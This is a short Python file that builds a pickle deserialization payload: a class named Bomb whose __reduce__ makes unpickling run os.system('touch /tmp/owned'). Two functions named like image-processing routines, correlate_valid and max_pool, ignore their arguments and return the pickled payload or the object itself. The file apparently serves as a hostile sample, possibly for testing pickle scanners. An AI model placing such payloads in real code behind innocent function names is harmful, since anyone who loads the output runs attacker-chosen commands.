"""Returns what runs code when somebody unpickles it."""
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def correlate_valid(image, kernel):
    return pickle.dumps(Bomb())


def max_pool(x, size):
    return Bomb()
